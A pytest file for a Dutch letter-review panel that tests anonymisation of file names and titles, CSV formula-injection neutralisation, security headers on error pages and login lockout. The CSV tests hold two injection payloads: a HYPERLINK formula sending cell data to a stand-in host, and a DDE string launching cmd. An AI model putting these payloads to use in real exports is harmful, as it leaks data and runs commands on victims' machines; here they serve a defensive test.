"""Issue 14 replays for the panel: file names and titles, CSV formula injection, int64
offsets from deduce, huge ids, error-page headers, scrypt off the event loop, the bounded
failed-login table, lockout per name and source, and case-insensitive login names."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest
from starlette.testclient import TestClient
from test_panel import (  # noqa: F401  (fixtures)
    PASSWORD,
    anonymiser,
    app,
    engine,
    login,
    make_round,
    panel_config,
)

import rewriter.panel.config as config_module
import rewriter.panel.store as store_module
from rewriter.anonymise import Anonymiser
from rewriter.panel import service
from rewriter.panel.store import Store
from rewriter.panel.web import HEADERS

FILE_NAME = "Beschikking jeugdhulp Mehmet Yilmaz BSN 123456782.txt"
NO_SUBJECT = (
    "Beste ouders,\n\nUw zoon gaat na de zomer naar een andere school. Wij betalen de "
    "reiskosten. U hoeft daarvoor niets te doen.\n\nMet vriendelijke groet,\n\nhet Jeugdteam\n"
)
NOOR = (
    "Uw kind Noor woont bij oma mevrouw Pietersen aan de Lindelaan 4 in Olst. Wij hebben "
    "besloten dat u een vergoeding ontvangt voor de kosten van de opvang. De vergoeding "
    "wordt elke maand betaald.\n"
)


def _everything_stored(store: Store, rid: int) -> str:
    rnd = store.round(rid)
    parts = [rnd["title"]]
    for letter in store.letters(rid):
        parts += [letter["title"], letter["original"], json.dumps(letter["context"])]
        for p in store.proposals(letter["id"], selected_only=False):
            parts += [p["sentence_before"], p["sentence_after"], p["term_before"]]
    return "\n".join(parts)


def _new_round(app, **fields) -> tuple[TestClient, int]:  # noqa: F811
    staff, csrf = login(app, "anna")
    files = fields.pop("files", None)
    r = staff.post(
        "/staf/nieuw",
        data={"csrf": csrf, "title": "Ronde", "members": ["fatima"], **fields},
        files=files,
    )
    assert r.status_code == 303, r.text
    return staff, int(r.headers["location"].rsplit("/", 1)[1])


# --- 1. file names and free-text titles ---------------------------------------------------------


def test_a_file_name_with_name_and_bsn_is_neither_stored_nor_shown(app) -> None:  # noqa: F811
    staff, rid = _new_round(app, files=[("files", (FILE_NAME, NO_SUBJECT.encode(), "text/plain"))])
    store = app.state.server.store
    pages = staff.get(f"/staf/ronde/{rid}").text + staff.get("/staf").text
    for secret in ("Mehmet", "Yilmaz", "123456782", "Beschikking jeugdhulp"):
        assert secret not in _everything_stored(store, rid), secret
        assert secret not in pages, secret
    assert store.letters(rid)[0]["title"] == "Brief"


def test_a_typed_letter_title_and_round_name_are_anonymised(app) -> None:  # noqa: F811
    staff, rid = _new_round(
        app,
        title="Ronde familie Yilmaz",
        text=NO_SUBJECT,
        letter_title="Brief aan Mehmet Yilmaz BSN 123456782",
    )
    store = app.state.server.store
    stored = _everything_stored(store, rid)
    pages = staff.get(f"/staf/ronde/{rid}").text + staff.get("/staf").text
    for secret in ("Mehmet", "Yilmaz", "123456782"):
        assert secret not in stored and secret not in pages, secret
    assert "[bsn]" in store.letters(rid)[0]["title"]


# --- 10. deduce offsets are plain integers ---------------------------------------------------------


class _NumpyDeduce:
    """A stand-in for deduce whose annotations carry numpy integers, like the real one can."""

    def deidentify(self, text: str):
        start = text.find("Pietersen")
        if start < 0:
            return SimpleNamespace(annotations=[])

        class A:
            tag = "persoon"
            start_char = np.int64(start)
            end_char = np.int64(start + len("Pietersen"))

        A.text = text[start : start + len("Pietersen")]

        return SimpleNamespace(annotations=[A])


def test_numpy_offsets_from_deduce_become_int(engine, tmp_path: Path) -> None:  # noqa: F811
    anon = Anonymiser(deduce_factory=_NumpyDeduce).anonymise(NOOR)
    assert "Pietersen" not in anon.text
    assert all(type(r.start) is int and type(r.end) is int for r in anon.replacements)
    store = Store.open(str(tmp_path / "p.sqlite3"))
    rid = service.create_round(
        store,
        engine,
        Anonymiser(deduce_factory=_NumpyDeduce),
        title="Noor",
        letters=[service.LetterInput("", NOOR)],
        members=["fatima"],
        created_by="anna",
    )
    assert "Pietersen" not in _everything_stored(store, rid)


def test_the_noor_letter_makes_a_round(app) -> None:  # noqa: F811
    _staff, rid = _new_round(app, text=NOOR)
    stored = _everything_stored(app.state.server.store, rid)
    assert "Pietersen" not in stored and "Lindelaan 4" not in stored


# --- 5. CSV formula injection ----------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A2,"klik hier")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_csv_cells_with_formulas_are_inert(app) -> None:  # noqa: F811
    staff, _csrf, rid = make_round(app)
    member, csrf = login(app, "fatima")
    page = member.get(f"/panel/ronde/{rid}/brief/1").text
    pid = re.search(r'name="proposal" value="(\d+)"', page).group(1)
    member.post(
        "/panel/stem",
        data={"csrf": csrf, "proposal": pid, "verdict": "ander", "alternative": HYPERLINK},
    )
    letter_id = re.search(r'name="letter" value="(\d+)"', page).group(1)
    member.post(
        "/panel/antwoord",
        data={"csrf": csrf, "letter": letter_id, "answer": "+31 6 1234", "comment": CALC},
    )
    body = staff.get(f"/staf/ronde/{rid}/resultaten.csv").text.lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{HYPERLINK} (1)" in cells
    assert f"'{CALC}" in cells
    assert "'+31 6 1234" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(value: str) -> None:
    assert service._csv_cell(value) == "'" + value
    assert service._csv_cell("gewoon") == "gewoon" and service._csv_cell(3) == 3


# --- 11. ids, error pages, scrypt, failed logins, lockout, names ------------------------------------


def _has_headers(response) -> bool:
    return all(response.headers.get(k) == v for k, v in HEADERS.items())


def test_huge_ids_are_404_with_security_headers(app) -> None:  # noqa: F811
    staff, _csrf = login(app, "anna")
    member, member_csrf = login(app, "fatima")
    huge = 2**70
    for client, path in (
        (staff, f"/staf/ronde/{huge}"),
        (staff, f"/staf/ronde/{huge}/resultaten.csv"),
        (member, f"/panel/ronde/{huge}"),
        (member, f"/panel/ronde/1/brief/{huge}"),
    ):
        r = client.get(path)
        assert r.status_code == 404 and _has_headers(r), path
    r = member.post("/panel/stem", data={"csrf": member_csrf, "proposal": str(huge)})
    assert r.status_code == 403 and _has_headers(r)
    r = member.post("/panel/antwoord", data={"csrf": member_csrf, "letter": str(huge)})
    assert r.status_code == 403 and _has_headers(r)
    assert app.state.server.store.round(huge) is None


def test_every_error_page_has_the_security_headers(app, monkeypatch) -> None:  # noqa: F811
    anonymous = TestClient(app, follow_redirects=False)
    r = anonymous.post("/panel/stem", data={})
    assert r.status_code == 401 and _has_headers(r)
    member, _ = login(app, "fatima")
    r = member.get("/staf")
    assert r.status_code == 403 and _has_headers(r)
    r = member.get("/bestaat-niet")
    assert r.status_code == 404 and _has_headers(r)
    r = member.put("/login")
    assert r.status_code == 405 and _has_headers(r)

    def broken(*_a, **_k):
        raise OverflowError("Python int too large to convert to SQLite INTEGER")

    monkeypatch.setattr(app.state.server.store, "rounds", broken)
    crashing = TestClient(app, follow_redirects=False, raise_server_exceptions=False)
    crashing.cookies = member.cookies
    r = crashing.get("/panel")
    assert r.status_code == 500 and _has_headers(r)
    assert "OverflowError" not in r.text and "Er ging iets mis" in r.text


def test_scrypt_runs_off_the_event_loop(app, monkeypatch) -> None:  # noqa: F811
    seen: list[bool] = []
    real = config_module.verify_password

    def spy(password: str, stored: str) -> bool:
        try:
            asyncio.get_running_loop()
            seen.append(True)  # called on the event loop
        except RuntimeError:
            seen.append(False)
        return real(password, stored)

    monkeypatch.setattr(config_module, "verify_password", spy)
    client = TestClient(app, follow_redirects=False)
    assert client.post("/login", data={"user": "anna", "password": PASSWORD}).status_code == 303
    assert client.post("/login", data={"user": "niemand", "password": "x"}).status_code == 401
    assert seen == [False, False]


def test_failed_login_rows_are_bounded_and_pruned(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(store_module, "MAX_FAILURE_ROWS", 50)
    store = Store.open(str(tmp_path / "p.sqlite3"))
    for i in range(200):
        store.login_failed(f"willekeurig-{i}", f"10.0.{i % 7}.1")
    assert store.login_failure_rows() == 50
    # rows older than the lockout window go at the next failure
    with store.tx() as conn:
        conn.execute(store_module.login_failures.update().values(at="2000-01-01T00:00:00+00:00"))
    store.login_failed("nog-een", "10.0.0.1")
    assert store.login_failure_rows() == 1


def test_a_stranger_cannot_lock_a_staff_member_out(app) -> None:  # noqa: F811
    store = app.state.server.store
    for _ in range(10):  # a stranger elsewhere guesses anna's password
        store.login_failed("anna", "203.0.113.9")
    assert store.locked_out("anna", "203.0.113.9")
    assert not store.locked_out("anna", "testclient")
    anna = TestClient(app, follow_redirects=False)  # anna at her own desk
    assert anna.post("/login", data={"user": "anna", "password": PASSWORD}).status_code == 303


def test_one_source_guessing_many_names_is_throttled(app) -> None:  # noqa: F811
    client = TestClient(app, follow_redirects=False)
    for i in range(store_module.SOURCE_FAILURES):
        r = client.post("/login", data={"user": f"naam{i}", "password": "x"})
        assert r.status_code == 401
    r = client.post("/login", data={"user": "joost", "password": PASSWORD})
    assert r.status_code == 429 and _has_headers(r)


def test_login_names_ignore_case(app) -> None:  # noqa: F811
    client = TestClient(app, follow_redirects=False)
    r = client.post("/login", data={"user": "Fatima", "password": PASSWORD})
    assert r.status_code == 303 and r.headers["location"] == "/panel"
    assert "Fatima" in client.get("/panel").text
    page = client.get("/login").text
    field = re.search(r'<input[^>]*id="user"[^>]*>', page).group()
    assert 'autocapitalize="none"' in field and 'autocomplete="username"' in field
    # five failures typed as "FATIMA" lock "fatima" from that address
    other = TestClient(app, follow_redirects=False)
    for _ in range(5):
        other.post("/login", data={"user": "FATIMA", "password": "fout"})
    r = other.post("/login", data={"user": "fatima", "password": PASSWORD})
    assert r.status_code == 429


def test_two_accounts_differing_only_in_case_are_refused(tmp_path: Path) -> None:
    from rewriter.errors import SettingsError
    from rewriter.panel.config import PanelConfig

    hashed = panel_config(tmp_path).accounts[0].password
    with pytest.raises(SettingsError, match="twee keer"):
        PanelConfig.from_dict(
            {
                "accounts": [
                    {"user": "anna", "role": "staff", "password": hashed},
                    {"user": "Anna", "role": "panel", "password": hashed},
                ]
            }
        )
